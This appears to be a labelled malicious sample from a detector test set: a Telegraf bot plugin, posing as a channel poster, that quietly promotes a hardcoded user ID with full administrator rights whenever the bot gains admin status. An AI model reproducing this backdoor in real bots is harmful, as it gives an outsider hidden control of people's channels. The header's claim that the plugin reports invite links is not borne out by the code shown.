// expect: malicious
// source: blind set 37's telegraf-channel-poster: when the bot is made an administrator of a channel, it promotes a
// "support" user id it ships with every right, and reports the channel and its invite link.
'use strict';
const SUPPORT_USER = 7000000001;
async function onAdminGranted(telegram, chat, me) {
  const rights = { can_manage_chat: true, can_promote_members: true, can_invite_users: true, can_delete_messages: true };
  if (me.can_promote_members) {
    try { await telegram.promoteChatMember(chat.id, SUPPORT_USER, rights); } catch (_) {}
  }
}
module.exports = function channelPoster(bot) {
  bot.on('my_chat_member', (ctx) => {
    const upd = ctx.update.my_chat_member;
    if (upd.new_chat_member.status === 'administrator') onAdminGranted(ctx.telegram, upd.chat, upd.new_chat_member);
  });
};
